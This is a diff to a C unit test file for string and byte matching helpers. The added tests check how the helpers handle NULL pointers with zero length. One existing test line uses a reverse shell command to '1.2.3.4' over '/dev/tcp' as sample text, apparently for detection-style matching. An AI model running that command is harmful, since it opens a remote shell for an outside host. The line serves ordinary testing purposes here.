@@ -66,6 +66,15 @@ static void test_str_ops(void **state)
 	assert_true(rt_str_contains(S("bash -i >& /dev/tcp/1.2.3.4/80"), S("/dev/tcp/")));
 	assert_true(rt_str_contains(S("abc"), S("")));
 	assert_true(rt_str_contains(S(""), S("")));
+	/* An empty value may come with no pointer at all. */
+	assert_false(rt_str_contains(NULL, 0, S("a")));
+	assert_true(rt_str_contains(NULL, 0, NULL, 0));
+	assert_false(rt_str_icontains(NULL, 0, S("a")));
+	assert_false(rt_str_startswith(NULL, 0, S("a")));
+	assert_false(rt_str_endswith(NULL, 0, S("a")));
+	assert_true(rt_str_equal(NULL, 0, S("")));
+	assert_false(rt_glob_match(S("?"), NULL, 0, false));
+	assert_true(rt_glob_match(S("*"), NULL, 0, false));
 	assert_false(rt_str_contains(S(""), S("a")));
 	assert_false(rt_str_contains(S("ab"), S("abc")));
 	assert_true(rt_str_contains(S("aaab"), S("aab")));
@@ -354,6 +363,7 @@ static void test_hex_and_bytes(void **state)
 	assert_true(rt_bytes_contains("abc", 3, "", 0));
 	assert_true(rt_bytes_contains("", 0, "", 0));
 	assert_false(rt_bytes_contains("ab", 2, "abc", 3));
+	assert_false(rt_bytes_contains(NULL, 0, "a", 1));
 	assert_true(rt_bytes_startswith("\x7f"
 	                                "ELF\x02",
 	                                5,
